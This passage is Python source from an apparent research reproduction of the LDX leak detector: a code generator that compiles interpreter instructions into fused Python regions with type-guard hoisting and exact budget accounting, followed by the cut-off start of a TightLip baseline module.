                    f"    {xb}[{xi}] = fl.get({instr.src!r})",
                    "else:",
                    f"    frame.index = {index}",
                    f"    machine._store_index(thread, frame, i{pos})",
                ], False
            return [f"machine._store_index(thread, frame, i{pos})"], True
        if kind is ins.NewList:
            parts = []
            for item_pos, item in enumerate(instr.items):
                if self._is_local(item):
                    parts.append(f"fl.get({item!r})")
                else:
                    env[f"r{pos}_{item_pos}"] = self._reader(item)
                    parts.append(f"r{pos}_{item_pos}(machine, frame)")
            items = ", ".join(parts)
            if self._is_local(instr.dst):
                return [f"fl[{instr.dst!r}] = [{items}]"], False
            env[f"w{pos}"] = self._writer(instr.dst)
            return [f"w{pos}(machine, frame, [{items}])"], False
        raise AssertionError(f"unexpected chain member {instr!r}")

    def _emit_member_cached(
        self,
        pos: int,
        index: int,
        instr: ins.Instr,
        env: Dict[str, object],
        bindings: Dict[str, str],
        types: Dict[str, Optional[str]],
        hoist: frozenset,
        rstate: Dict[str, object],
    ) -> Tuple[List[str], bool]:
        """Region-mode member emission with path-local register caching.

        Every emitted region path is straight-line (tail duplication,
        no merges), so a local read can be cached in a Python temp and
        reused by later members on the same path: *bindings* maps a
        local name to the temp currently holding its value.  Stores
        always write ``fl`` through immediately (a region can spill or
        raise at any member), so re-entering the region top — where the
        emitted code reloads every temp it uses — is always safe.

        *types* tracks what is provable about each local at this point
        of the path ("int"/"bool"/"str"/"list"/None): constants seed
        it, arithmetic on proven ints propagates it, and proven shapes
        emit **unguarded** operations (no per-iteration ``type(x) is
        int`` checks).  Names in *hoist* are assumed int at region
        entry — the region prologue checks them once; any write that
        cannot be proven to keep a hoisted name int is recorded in
        ``rstate["violations"]`` so the caller's fixpoint can drop the
        name.  Unknown-typed operands that *would* profit from an int
        assumption are recorded in ``rstate["candidates"]``.
        """
        lines: List[str] = []

        def rd(name: str) -> str:
            temp = bindings.get(name)
            if temp is None:
                # Live-in on this path (read before any write): these
                # are the loop-carried register candidates.
                rstate["reads"].add(name)
                temp = f"g{pos}_{len(lines)}"
                lines.append(f"{temp} = fl.get({name!r})")
                bindings[name] = temp
            return temp

        def wr(name: str, t: Optional[str]) -> None:
            # "any" marks written-but-unproven: unlike a missing entry
            # (never touched on this path), the value no longer comes
            # from region entry, so an entry guard can't help it.
            types[name] = t if t is not None else "any"
            if t != "int" and name in hoist:
                rstate["violations"].add(name)

        def want_int(name: str) -> None:
            # Only live-in names nothing is known about: the entry
            # guard checks entry values, so a name already written on
            # this path (or of known non-int shape) gains nothing and
            # would turn the guard into a certain miss.
            if types.get(name) is None:
                rstate["candidates"].add(name)

        kind = type(instr)
        if kind is ins.Nop or kind is ins.Jump:
            return [], False
        if kind is ins.Const:
            env[f"v{pos}"] = instr.value
            value = instr.value
            vt = type(value)
            const_type = (
                "int" if vt is int else
                "bool" if vt is bool else
                "str" if vt is str else None
            )
            if self._is_local(instr.dst):
                # env names are never reassigned: the constant itself
                # doubles as the binding.
                bindings[instr.dst] = f"v{pos}"
                wr(instr.dst, const_type)
                return [f"fl[{instr.dst!r}] = v{pos}"], False
            env[f"w{pos}"] = self._writer(instr.dst)
            return [f"w{pos}(machine, frame, v{pos})"], False
        if kind is ins.Move:
            if self._is_local(instr.dst) and self._is_local(instr.src):
                src = rd(instr.src)
                lines.append(f"fl[{instr.dst!r}] = {src}")
                bindings[instr.dst] = src
                wr(instr.dst, types.get(instr.src))
                return lines, False
            env[f"r{pos}"] = self._reader(instr.src)
            env[f"w{pos}"] = self._writer(instr.dst)
            if self._is_local(instr.dst):
                # The write bypasses the register cache: drop any
                # binding so later reads reload from the frame.
                bindings.pop(instr.dst, None)
                wr(instr.dst, None)
            return [f"w{pos}(machine, frame, r{pos}(machine, frame))"], False
        xv = f"xv{pos}"
        if kind is ins.Binop:
            env[f"b{pos}"] = BINOP_FUNCS[instr.op]
            if (
                self._is_local(instr.dst)
                and self._is_local(instr.left)
                and self._is_local(instr.right)
            ):
                xl, xr = rd(instr.left), rd(instr.right)
                tl, tr = types.get(instr.left), types.get(instr.right)
                fast = _INT_FAST_BINOPS.get(instr.op)
                if fast is not None:
                    both_int = tl == "int" and tr == "int"
                    both_str = tl == "str" and tr == "str"
                    if both_int or (both_str and instr.op in ("==", "!=")):
                        # Shapes proven (entry guard or dominating
                        # writes on this straight-line path): the bare
                        # Python operator IS the semantics.
                        lines.append(
                            f"fl[{instr.dst!r}] = ({xv} := {xl} {fast} {xr})"
                        )
                        bindings[instr.dst] = xv
                        wr(
                            instr.dst,
                            "int" if instr.op in ("+", "-", "*") else "bool",
                        )
                        return lines, False
                    if instr.op not in ("==", "!="):
                        # Equality is type-agnostic — assuming int for
                        # its operands buys little and risks guard
                        # misses; arithmetic and order comparisons are
                        # the induction-variable workhorses.
                        want_int(instr.left)
                        want_int(instr.right)
                    guard = f"type({xl}) is int and type({xr}) is int"
                    if instr.op in ("==", "!="):
                        guard = (
                            f"({guard}) or "
                            f"(type({xl}) is str and type({xr}) is str)"
                        )
                    lines.append(
                        f"fl[{instr.dst!r}] = ({xv} := ({xl} {fast} {xr}) "
                        f"if {guard} else b{pos}({xl}, {xr}))"
                    )
                else:
                    lines.append(
                        f"fl[{instr.dst!r}] = ({xv} := b{pos}({xl}, {xr}))"
                    )
                bindings[instr.dst] = xv
                wr(instr.dst, None)
                return lines, False
            env[f"rl{pos}"] = self._reader(instr.left)
            env[f"rr{pos}"] = self._reader(instr.right)
            env[f"w{pos}"] = self._writer(instr.dst)
            if self._is_local(instr.dst):
                bindings.pop(instr.dst, None)
                wr(instr.dst, None)
            return [
                f"w{pos}(machine, frame, b{pos}"
                f"(rl{pos}(machine, frame), rr{pos}(machine, frame)))"
            ], False
        if kind is ins.Unop:
            env[f"u{pos}"] = UNOP_FUNCS[instr.op]
            if self._is_local(instr.dst) and self._is_local(instr.operand):
                xo = rd(instr.operand)
                to = types.get(instr.operand)
                if instr.op == "-":
                    if to == "int":
                        lines.append(f"fl[{instr.dst!r}] = ({xv} := -{xo})")
                        bindings[instr.dst] = xv
                        wr(instr.dst, "int")
                        return lines, False
                    want_int(instr.operand)
                    lines.append(
                        f"fl[{instr.dst!r}] = ({xv} := -{xo} "
                        f"if type({xo}) is int else u{pos}({xo}))"
                    )
                elif instr.op == "not":
                    if to == "bool":
                        lines.append(f"fl[{instr.dst!r}] = ({xv} := not {xo})")
                        bindings[instr.dst] = xv
                        wr(instr.dst, "bool")
                        return lines, False
                    lines.append(
                        f"fl[{instr.dst!r}] = ({xv} := (not {xo}) "
                        f"if {xo} is True or {xo} is False else u{pos}({xo}))"
                    )
                else:
                    lines.append(f"fl[{instr.dst!r}] = ({xv} := u{pos}({xo}))")
                bindings[instr.dst] = xv
                wr(instr.dst, None)
                return lines, False
            env[f"r{pos}"] = self._reader(instr.operand)
            env[f"w{pos}"] = self._writer(instr.dst)
            if self._is_local(instr.dst):
                bindings.pop(instr.dst, None)
                wr(instr.dst, None)
            return [
                f"w{pos}(machine, frame, u{pos}(r{pos}(machine, frame)))"
            ], False
        if kind is ins.CallBuiltin:
            env[f"h{pos}"] = BUILTINS[instr.name]
            if instr.name == "len" and len(instr.args) == 1:
                xa = rd(instr.args[0])
                ta = types.get(instr.args[0])
                if ta == "str" or ta == "list":
                    lines.append(f"fl[{instr.dst!r}] = ({xv} := len({xa}))")
                else:
                    lines.append(
                        f"fl[{instr.dst!r}] = ({xv} := len({xa}) "
                        f"if type({xa}) is str or type({xa}) is list "
                        f"else h{pos}([{xa}]))"
                    )
                bindings[instr.dst] = xv
                # The builtin returns an int or raises: int either way.
                wr(instr.dst, "int")
                return lines, False
            if instr.name == "push" and len(instr.args) == 2:
                xa, val = rd(instr.args[0]), rd(instr.args[1])
                if types.get(instr.args[0]) == "list":
                    lines.extend([
                        f"{xa}.append({val})",
                        f"fl[{instr.dst!r}] = ({xv} := {xa})",
                    ])
                    bindings[instr.dst] = xv
                    wr(instr.dst, "list")
                    return lines, False
                lines.extend([
                    f"if type({xa}) is list:",
                    f"    {xa}.append({val})",
                    f"    {xv} = {xa}",
                    "else:",
                    f"    {xv} = h{pos}([{xa}, {val}])",
                    f"fl[{instr.dst!r}] = {xv}",
                ])
                bindings[instr.dst] = xv
                wr(instr.dst, None)
                return lines, False
            if instr.name == "pop" and len(instr.args) == 1:
                xa = rd(instr.args[0])
                if types.get(instr.args[0]) == "list":
                    lines.append(
                        f"fl[{instr.dst!r}] = ({xv} := {xa}.pop() "
                        f"if {xa} else h{pos}([{xa}]))"
                    )
                else:
                    lines.append(
                        f"fl[{instr.dst!r}] = ({xv} := {xa}.pop() "
                        f"if type({xa}) is list and {xa} else h{pos}([{xa}]))"
                    )
                bindings[instr.dst] = xv
                wr(instr.dst, None)
                return lines, False
            args = ", ".join(rd(arg) for arg in instr.args)
            lines.append(f"fl[{instr.dst!r}] = ({xv} := h{pos}([{args}]))")
            bindings[instr.dst] = xv
            wr(instr.dst, None)
            return lines, False
        if kind is ins.LoadIndex:
            env[f"i{pos}"] = instr
            if (
                self._is_local(instr.dst)
                and self._is_local(instr.base)
                and self._is_local(instr.index)
            ):
                xb, xi = rd(instr.base), rd(instr.index)
                tb, ti = types.get(instr.base), types.get(instr.index)
                if ti != "int":
                    want_int(instr.index)
                if (tb == "list" or tb == "str") and ti == "int":
                    # Shapes proven: only the bounds check remains.
                    check = f"0 <= {xi} < len({xb})"
                else:
                    check = (
                        f"(type({xb}) is list or type({xb}) is str) "
                        f"and type({xi}) is int and 0 <= {xi} < len({xb})"
                    )
                lines.extend([
                    f"if {check}:",
                    f"    fl[{instr.dst!r}] = ({xv} := {xb}[{xi}])",
                    "else:",
                    f"    frame.index = {index}",
                    f"    fl[{instr.dst!r}] = ({xv} := "
                    f"machine._load_index(thread, frame, i{pos}))",
                ])
                bindings[instr.dst] = xv
                wr(instr.dst, None)
                return lines, False
            if self._is_local(instr.dst):
                bindings[instr.dst] = xv
                wr(instr.dst, None)
                return [
                    f"fl[{instr.dst!r}] = ({xv} := "
                    f"machine._load_index(thread, frame, i{pos}))"
                ], True
            env[f"w{pos}"] = self._writer(instr.dst)
            return [
                f"w{pos}(machine, frame, "
                f"machine._load_index(thread, frame, i{pos}))"
            ], True
        if kind is ins.StoreIndex:
            env[f"i{pos}"] = instr
            if (
                self._is_local(instr.base)
                and self._is_local(instr.index)
                and self._is_local(instr.src)
            ):
                xb, xi, src = rd(instr.base), rd(instr.index), rd(instr.src)
                tb, ti = types.get(instr.base), types.get(instr.index)
                if ti != "int":
                    want_int(instr.index)
                if tb == "list" and ti == "int":
                    check = f"0 <= {xi} < len({xb})"
                else:
                    check = (
                        f"type({xb}) is list "
                        f"and type({xi}) is int and 0 <= {xi} < len({xb})"
                    )
                lines.extend([
                    f"if {check}:",
                    f"    {xb}[{xi}] = {src}",
                    "else:",
                    f"    frame.index = {index}",
                    f"    machine._store_index(thread, frame, i{pos})",
                ])
                return lines, False
            return [f"machine._store_index(thread, frame, i{pos})"], True
        if kind is ins.NewList:
            parts = []
            for item_pos, item in enumerate(instr.items):
                if self._is_local(item):
                    parts.append(rd(item))
                else:
                    env[f"r{pos}_{item_pos}"] = self._reader(item)
                    parts.append(f"r{pos}_{item_pos}(machine, frame)")
            items = ", ".join(parts)
            if self._is_local(instr.dst):
                lines.append(f"fl[{instr.dst!r}] = ({xv} := [{items}])")
                bindings[instr.dst] = xv
                wr(instr.dst, "list")
                return lines, False
            env[f"w{pos}"] = self._writer(instr.dst)
            return [f"w{pos}(machine, frame, [{items}])"], False
        raise AssertionError(f"unexpected chain member {instr!r}")

    def _emit_run(
        self, chain: List[int], terminator: int, base: List[Step]
    ) -> Step:
        instrs = self.function.instrs
        head = chain[0]
        env: Dict[str, object] = {
            "slow": _make_slow(
                base[head],
                tuple(base[i] for i in chain[1:]),
                base[terminator],
            ),
            "final": base[terminator],
        }
        term = instrs[terminator]

        # Terminator shape.  A chain cycling straight back to its own
        # head, or a CJump whose out-edges are both free/foldable and
        # one of whose targets is the head, turns into a `while True`
        # in the generated code: whole loop iterations execute without
        # returning to the driver (budget permitting).
        cycle = terminator == head
        t_act = f_act = None
        inline_cjump = False
        if not cycle and type(term) is ins.CJump:
            t_act = self._edge_actions(terminator, term.true_target)
            f_act = self._edge_actions(terminator, term.false_target)
            inline_cjump = (
                not t_act or fold_counter_adds(t_act) is not None
            ) and (not f_act or fold_counter_adds(f_act) is not None)
        loops_back = cycle or (
            inline_cjump and head in (term.true_target, term.false_target)
        )

        chain_edges = [
            self._edge_actions(src, dst)
            for src, dst in zip(chain, chain[1:] + [terminator])
        ]
        has_folded = any(chain_edges) or (
            inline_cjump and (bool(t_act) or bool(f_act))
        )

        lines: List[str] = []

        def emit(depth: int, text: str) -> None:
            lines.append("    " * (depth + 1) + text)

        def emit_edge(depth: int, actions) -> None:
            if not actions:
                return
            delta, count = fold_counter_adds(actions)
            emit(depth, f"cs[-1] += {delta}")
            # One float add per original action, in sequence: clock
            # charges must match the switch backend bit for bit.
            for _ in range(count):
                emit(depth, "clock += ec")
            emit(depth, f"st.edge_actions += {count}")

        def emit_spill(depth: int, target: int) -> None:
            emit(depth, "st.instructions = n")
            emit(depth, "thread.clock = clock")
            emit(depth, f"frame.index = {target}")
            emit(depth, "return None")

        def emit_reenter(depth: int, budget: int) -> None:
            # The next full iteration may overflow the budget: hand
            # back to the driver, whose prologue + the run's own slow
            # path reproduce the exact overflow state.
            emit(depth, f"if n + {budget} > limit:")
            emit_spill(depth + 1, head)
            emit(depth, "n += 1")
            emit(depth, "clock += icost")
            emit(depth, "continue")

        emit(0, "st = machine.stats")
        emit(0, "n = st.instructions")
        emit(0, "limit = machine.max_instructions")
        # Budget overflow anywhere in the chain: replay through the
        # base steps so the error fires at the exact instruction with
        # the exact machine state.
        emit(0, f"if n + {len(chain)} > limit:")
        emit(1, "return slow(machine, thread, frame)")
        emit(0, "icost = machine.costs.instruction")
        emit(0, "clock = thread.clock")
        emit(0, "fl = frame.locals")
        if has_folded:
            emit(0, "ec = machine.costs.edge_action")
            emit(0, "cs = thread.counter_stack")
        depth = 0
        if loops_back:
            emit(0, "while True:")
            depth = 1

        for pos, index in enumerate(chain):
            if pos:
                # The driver ran the first member's prologue; the run
                # runs every later one, clock kept in a local.
                emit(depth, "n += 1")
                emit(depth, "clock += icost")
            member_lines, needs_index = self._emit_member(
                pos, index, instrs[index], env
            )
            if needs_index:
                emit(depth, f"frame.index = {index}")
            for text in member_lines:
                emit(depth, text)
            emit_edge(depth, chain_edges[pos])

        if cycle:
            emit_reenter(depth, len(chain))
        elif inline_cjump:
            emit(depth, "n += 1")
            emit(depth, "clock += icost")
            env["truthy"] = truthy
            if self._is_local(term.cond):
                emit(depth, f"xc = fl.get({term.cond!r})")
            else:
                env["rc"] = self._reader(term.cond)
                emit(depth, "xc = rc(machine, frame)")
            # Comparison results are Python bools: test those by
            # identity, call truthy() only for other types.
            cond = "xc is True or (xc is not False and truthy(xc))"
            def emit_branch(target: int, actions) -> None:
                emit_edge(depth + 1, actions)
                if loops_back and target == head:
                    emit_reenter(depth + 1, len(chain) + 1)
                else:
                    emit_spill(depth + 1, target)

            emit(depth, f"if {cond}:")
            emit_branch(term.true_target, t_act)
            emit(depth, "else:")
            emit_branch(term.false_target, f_act)
        else:
            emit(depth, "n += 1")
            emit(depth, "clock += icost")
            emit(depth, "st.instructions = n")
            emit(depth, "thread.clock = clock")
            emit(depth, f"frame.index = {terminator}")
            emit(depth, "return final(machine, thread, frame)")

        params = ", ".join(f"{name}={name}" for name in env)
        source = (
            f"def run(machine, thread, frame, {params}):\n"
            + "".join(f"{line}\n" for line in lines)
        )
        namespace = dict(env)
        exec(compile(source, "<ldx-run>", "exec"), namespace)
        return namespace["run"]

    # -- relevance-guided widened regions --------------------------------------
    #
    # With the sink-relevance classification in hand, fusion no longer
    # stops at the first branch: a region walk follows the CFG through
    # every fusible instruction, inlining interior CJumps as generated
    # if/else with tail duplication, turning edges back to the region
    # head into `while True` re-entries, and spilling to the driver at
    # revisits of interior nodes (inner loops get their own regions).
    # Counter compensation along each emitted path is a compile-time
    # constant, so it flushes as ONE literal add at each exit instead
    # of one add per edge — the "single precomputed aggregate add" of
    # the paper's Algorithm 2.  Virtual-clock charges stay one float
    # add per original action, in sequence: float addition is not
    # associative and the contract is byte identity.

    def _region_stub(self, index: int, base: List[Step], steps: List[Step]) -> Step:
        """A self-replacing step: compile the region at *index* on
        first execution, install it, and run it."""

        def stub(machine, thread, frame, _self=self, _index=index,
                 _base=base, _steps=steps):
            run = _self._compile_region(_index, _base)
            if run is None:
                run = _base[_index]
            _steps[_index] = run
            return run(machine, thread, frame)

        return stub

    def _region_successor(self, index: int, instr: ins.Instr) -> Optional[int]:
        if type(instr) is ins.NewList:
            succ = index + 1
            actions = self._edge_actions(index, succ)
            if actions and fold_counter_adds(actions) is None:
                return None
            return succ
        return self._member_successor(index, instr)

    def _region_edges_ok(self, index: int, instr: ins.CJump) -> bool:
        for target in {instr.true_target, instr.false_target}:
            actions = self._edge_actions(index, target)
            if actions and fold_counter_adds(actions) is None:
                return False
        return True

    def _compile_region(self, start: int, base: List[Step]) -> Optional[Step]:
        fusible = self.relevance.fusible
        if start not in fusible:
            return None
        instrs = self.function.instrs
        first_instr = instrs[start]
        if type(first_instr) is ins.CJump:
            if not self._region_edges_ok(start, first_instr):
                return self._compile_run(start, base)
        elif self._region_successor(start, first_instr) is None:
            return self._compile_run(start, base)

        # Pass 1: generic emission (no entry assumptions).  Its
        # candidate set records which locals would shed per-iteration
        # int guards if proven int at entry, and its read set records
        # which locals the region loads from the frame.
        env, body, state = self._emit_region_parts(start, base, frozenset())
        carried = ()
        if state["loop"] and state["reads"]:
            # Self-reentering region: keep every local the body reads
            # in a Python register, loaded once at region entry and
            # reconciled at each back-edge, so iterations never reload
            # from the locals dict.  (Writes still go through ``fl``
            # eagerly, so any exit sees a consistent frame.)
            carried = tuple(sorted(state["reads"]))
            env, body, state = self._emit_region_parts(
                start, base, frozenset(), carried
            )
        generic = self._assemble_region(start, env, body, state, (), None, carried)
        if not (state["loop"] and state["candidates"]):
            return generic

        # Pass 2 (self-reentering regions only): hoist-set fixpoint.
        # Assume every candidate is int at entry, re-emit, and drop any
        # name some write cannot be proven to keep int; repeat until
        # the surviving set is self-consistent (`i = i + 1` survives
        # because its write is int *given* the assumption).
        trial = frozenset(state["candidates"])
        emission = None
        while trial:
            env_h, body_h, state_h = self._emit_region_parts(
                start, base, trial, carried
            )
            bad = state_h["violations"]
            if not bad:
                emission = (env_h, body_h, state_h)
                break
            trial = trial - bad
        if emission is None or not trial:
            return generic
        env_h, body_h, state_h = emission
        # The specialized variant checks the hoisted registers once at
        # region entry; a miss (a genuinely non-int loop) dispatches to
        # the generic variant — the exact code running today — so the
        # slow path replays with byte-identical observables.
        return self._assemble_region(
            start, env_h, body_h, state_h, tuple(sorted(trial)), generic, carried
        )

    def _emit_region_parts(
        self,
        start: int,
        base: List[Step],
        hoist: frozenset,
        carried: Tuple[str, ...] = (),
    ) -> Tuple[Dict[str, object], List[Tuple[int, str]], Dict[str, object]]:
        instrs = self.function.instrs
        fusible = self.relevance.fusible
        env: Dict[str, object] = {"s0": base[start]}
        body: List[Tuple[int, str]] = []
        state: Dict[str, object] = {
            "emitted": 0, "loop": False, "ec": False, "cs": False,
            "candidates": set(), "violations": set(), "reads": set(),
        }
        # Loop-carried registers: ``lcK`` holds local *name* across
        # iterations (loaded in the region prologue; each back-edge
        # reconciles the register with the path's current binding).
        creg = {name: f"lc{k}" for k, name in enumerate(carried)}

        def emit(depth: int, text: str) -> None:
            body.append((depth, text))

        def emit_flush(depth: int, cum: Tuple[int, int]) -> None:
            # The path's whole counter compensation as one literal add.
            delta, count = cum
            if count:
                if delta:
                    state["cs"] = True
                    emit(depth, f"cs[-1] += {delta}")
                emit(depth, f"st.edge_actions += {count}")

        def emit_spill(depth: int, target: int, cum: Tuple[int, int]) -> None:
            emit_flush(depth, cum)
            emit(depth, "st.instructions = n")
            emit(depth, "thread.clock = clock")
            emit(depth, f"frame.index = {target}")
            emit(depth, "return None")

        def emit_term(depth: int, target: int, cum: Tuple[int, int]) -> None:
            emit(depth, "n += 1")
            emit(depth, "clock += icost")
            emit_flush(depth, cum)
            emit(depth, "st.instructions = n")
            emit(depth, "thread.clock = clock")
            emit(depth, f"frame.index = {target}")
            env[f"t{target}"] = base[target]
            emit(depth, f"return t{target}(machine, thread, frame)")

        def emit_reenter(
            depth: int, cum: Tuple[int, int], bindings: Dict[str, str]
        ) -> None:
            emit_flush(depth, cum)
            state["loop"] = True
            # The next iteration may overflow the budget: hand back to
            # the driver, whose prologue + this region's entry check
            # single-step to the exact overflow state.
            emit(depth, f"if n + {REGION_BOUND} > limit:")
            emit(depth + 1, "st.instructions = n")
            emit(depth + 1, "thread.clock = clock")
            emit(depth + 1, f"frame.index = {start}")
            emit(depth + 1, "return None")
            emit(depth, "n += 1")
            emit(depth, "clock += icost")
            # Reconcile the carried registers with this path's current
            # values before jumping back to the region top (whose code
            # reads the entry registers).  One tuple assignment: the
            # copies are parallel (a register may feed another, as in
            # ``prev = cur`` loops), so sources must all be read
            # before any register is written.
            targets, sources = [], []
            for name in carried:
                reg = creg[name]
                cur = bindings.get(name)
                if cur is None:
                    targets.append(reg)
                    sources.append("fl.get(%r)" % name)
                elif cur != reg:
                    targets.append(reg)
                    sources.append(cur)
            if targets:
                emit(
                    depth,
                    ", ".join(targets) + " = " + ", ".join(sources),
                )
            emit(depth, "continue")

        def charge_edge(
            depth: int, src: int, dst: int, cum: Tuple[int, int]
        ) -> Tuple[int, int]:
            actions = self._edge_actions(src, dst)
            if not actions:
                return cum
            delta, count = fold_counter_adds(actions)
            state["ec"] = True
            for _ in range(count):
                emit(depth, "clock += ec")
            return (cum[0] + delta, cum[1] + count)

        def walk(
            index: int,
            depth: int,
            cum: Tuple[int, int],
            visited: frozenset,
            first: bool,
            bindings: Dict[str, str],
            types: Dict[str, Optional[str]],
        ) -> None:
            path_len = len(visited)
            while True:
                if not first:
                    if index == start:
                        emit_reenter(depth, cum, bindings)
                        return
                    if index not in fusible:
                        emit_term(depth, index, cum)
                        return
                    if (
                        index in visited
                        or path_len >= REGION_PATH_CAP
                        or state["emitted"] >= REGION_CAP
                    ):
                        emit_spill(depth, index, cum)
                        return
                instr = instrs[index]
                kind = type(instr)
                if kind is ins.CJump:
                    if not self._region_edges_ok(index, instr):
                        emit_term(depth, index, cum)
                        return
                    succ = None
                else:
                    succ = self._region_successor(index, instr)
                    if succ is None:
                        emit_term(depth, index, cum)
                        return
                state["emitted"] += 1
                visited = visited | {index}
                path_len += 1
                if not first:
                    emit(depth, "n += 1")
                    emit(depth, "clock += icost")
                first = False
                if kind is ins.CJump:
                    pos = state["emitted"]
                    env["truthy"] = truthy
                    cond_bool = False
                    if self._is_local(instr.cond):
                        cond_bool = types.get(instr.cond) == "bool"
                        xc = bindings.get(instr.cond)
                        if xc is None:
                            state["reads"].add(instr.cond)
                            xc = f"xc{pos}"
                            emit(depth, f"{xc} = fl.get({instr.cond!r})")
                            bindings[instr.cond] = xc
                    else:
                        xc = f"xc{pos}"
                        env[f"rc{pos}"] = self._reader(instr.cond)
                        emit(depth, f"{xc} = rc{pos}(machine, frame)")
                    # Comparison results are Python bools: test those
                    # by identity, call truthy() only for other types.
                    # A condition *proven* bool (e.g. computed by an
                    # unguarded comparison on this path) tests bare.
                    if cond_bool:
                        cond = xc
                    else:
                        cond = (
                            f"{xc} is True or "
                            f"({xc} is not False and truthy({xc}))"
                        )
                    on_true, on_false = instr.true_target, instr.false_target
                    if on_true == on_false:
                        # Degenerate branch: the condition still
                        # evaluates (its type errors must surface —
                        # unless proven bool, where truthy() is total).
                        if not cond_bool:
                            emit(depth, f"truthy({xc})")
                        cum = charge_edge(depth, index, on_true, cum)
                        index = on_true
                        continue
                    emit(depth, f"if {cond}:")
                    walk(
                        on_true, depth + 1,
                        charge_edge(depth + 1, index, on_true, cum),
                        visited, False, dict(bindings), dict(types),
                    )
                    emit(depth, "else:")
                    walk(
                        on_false, depth + 1,
                        charge_edge(depth + 1, index, on_false, cum),
                        visited, False, dict(bindings), dict(types),
                    )
                    return
                member_lines, needs_index = self._emit_member_cached(
                    state["emitted"], index, instr, env, bindings,
                    types, hoist, state,
                )
                if needs_index:
                    emit(depth, f"frame.index = {index}")
                for text in member_lines:
                    emit(depth, text)
                cum = charge_edge(depth, index, succ, cum)
                index = succ

        walk(
            start, 0, (0, 0), frozenset(), True, dict(creg),
            {name: "int" for name in hoist},
        )
        return env, body, state

    def _assemble_region(
        self,
        start: int,
        env: Dict[str, object],
        body: List[Tuple[int, str]],
        state: Dict[str, object],
        hoisted: Tuple[str, ...],
        generic: Optional[Step],
        carried: Tuple[str, ...] = (),
    ) -> Step:
        prologue = [
            "st = machine.stats",
            "n = st.instructions",
            "limit = machine.max_instructions",
            # Conservative whole-region budget check; near the limit,
            # the single base step keeps the overflow state exact.
            f"if n + {REGION_BOUND} > limit:",
            "    return s0(machine, thread, frame)",
            "fl = frame.locals",
        ]
        creg = {name: f"lc{k}" for k, name in enumerate(carried)}
        for name in carried:
            # Loop-carried entry loads: the body reads these registers
            # instead of the locals dict (back-edges keep them fresh).
            prologue.append(f"{creg[name]} = fl.get({name!r})")
        if hoisted:
            # Hoisted int guards, checked ONCE per region entry (the
            # `while True` re-entry never re-checks: every write to a
            # hoisted register inside the region provably keeps it
            # int).  A miss runs the generic variant instead.
            env["generic"] = generic
            holders = [
                creg.get(name) or "fl.get(%r)" % name for name in hoisted
            ]
            guard = " and ".join(
                f"type({holder}) is int" for holder in holders
            )
            prologue.append(f"if not ({guard}):")
            prologue.append("    return generic(machine, thread, frame)")
        prologue.append("icost = machine.costs.instruction")
        prologue.append("clock = thread.clock")
        if state["ec"]:
            prologue.append("ec = machine.costs.edge_action")
        if state["cs"]:
            prologue.append("cs = thread.counter_stack")
        lines = ["    " + text for text in prologue]
        indent = 1
        if state["loop"]:
            lines.append("    while True:")
            indent = 2
        for depth, text in body:
            lines.append("    " * (indent + depth) + text)
        params = ", ".join(f"{name}={name}" for name in env)
        source = (
            f"def run(machine, thread, frame, {params}):\n"
            + "".join(f"{line}\n" for line in lines)
        )
        namespace = dict(env)
        exec(compile(source, "<ldx-region>", "exec"), namespace)
        return namespace["run"]


def compile_module(
    module: IRModule,
    plan: Optional[ModulePlan] = None,
    fuse: bool = True,
    relevance: Optional[bool] = None,
) -> CompiledModule:
    """Compile every function of *module* under *plan*.

    *relevance* selects relevance-guided widened fusion; None follows
    the process-wide :func:`relevance_enabled` switch.  It only takes
    effect when the plan actually carries a classification.
    """
    if relevance is None:
        relevance = _RELEVANCE_ENABLED
    module_relevance = getattr(plan, "relevance", None) if relevance else None
    use_relevance = fuse and module_relevance is not None
    global_names = frozenset(module.global_values)
    functions: Dict[str, CompiledFunction] = {}
    # Callee registry shared by every direct-call step of this
    # compilation; filled below once each function's steps exist (call
    # steps only read it at run time, so order doesn't matter).
    link: Dict[str, Tuple[Optional[FunctionPlan], List[Step]]] = {}
    for name, function in module.functions.items():
        function_plan = plan.functions.get(name) if plan is not None else None
        function_relevance = (
            module_relevance.functions.get(name) if use_relevance else None
        )
        functions[name] = _FunctionCompiler(
            module, function, function_plan, global_names, fuse,
            function_relevance, link,
        ).compile()
    for name, compiled in functions.items():
        function_plan = plan.functions.get(name) if plan is not None else None
        link[name] = (function_plan, compiled.steps)
    return CompiledModule(functions, module, plan, fuse, use_relevance)


# -- in-process compilation memo --------------------------------------------------
#
# Step closures are unpicklable, so compiled modules can never ride the
# artifact cache's disk layer; this weak memo is the in-process
# equivalent.  Master and slave machines built from one instrumented
# artifact (and every run of a cached workload) share one compilation.
# Keys are object identities: the CompiledModule pins the plan alive,
# so a recycled id can never alias a stale entry.

_MEMO: "weakref.WeakKeyDictionary[IRModule, Dict[Tuple[int, bool, bool], CompiledModule]]" = (
    weakref.WeakKeyDictionary()
)


def compiled_for_module(
    module: IRModule,
    plan: Optional[ModulePlan] = None,
    fuse: bool = True,
    relevance: Optional[bool] = None,
) -> CompiledModule:
    """Compile (or reuse the memoized compilation of) *module*."""
    _check_region_caps()
    if relevance is None:
        relevance = _RELEVANCE_ENABLED
    per_module = _MEMO.get(module)
    if per_module is None:
        per_module = {}
        _MEMO[module] = per_module
    key = (id(plan), fuse, relevance)
    compiled = per_module.get(key)
    if compiled is None:
        compiled = compile_module(module, plan, fuse, relevance)
        per_module[key] = compiled
    return compiled


def clear_compile_memo() -> None:
    """Drop every memoized compilation (benchmarks measure cold paths)."""
    _MEMO.clear()
