"""TightLip baseline (Yumerefendi et al. 2007).

TightLip also runs a master ("original") and a slave ("doppelganger"
with scrubbed/mutated sensitive inputs), but has **no execution
alignment**: syscalls are matched positionally, with a small tolerance
window.  Any divergence in the syscall *sequence* is reported as a
potential leak and the doppelganger is terminated — which is exactly
why Table 2 shows TightLip reporting leakage for mutations that cause
benign path differences.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.core.config import LdxConfig
from repro.interp.costs import CostModel
from repro.interp.events import BarrierEvent, SyscallEvent
from repro.interp.machine import Machine
from repro.interp.resolve import resolve_syscall_locally
from repro.ir.function import IRModule
from repro.vos.kernel import Kernel, ProgramExit
from repro.vos.syscalls import OUTPUT_SYSCALLS, THREAD_SYSCALLS
from repro.vos.world import World


class TightLipResult:
    """Outcome of one TightLip run."""

    def __init__(self) -> None:
        self.leak_reported = False
        self.divergence_position: Optional[int] = None
        self.divergence_reason = ""
        self.syscalls_compared = 0
        self.terminated_early = False
        self.master_time = 0.0
        self.slave_time = 0.0

    @property
    def time(self) -> float:
        return max(self.master_time, self.slave_time)


def _collect_syscalls(
    module: IRModule,
    world: World,
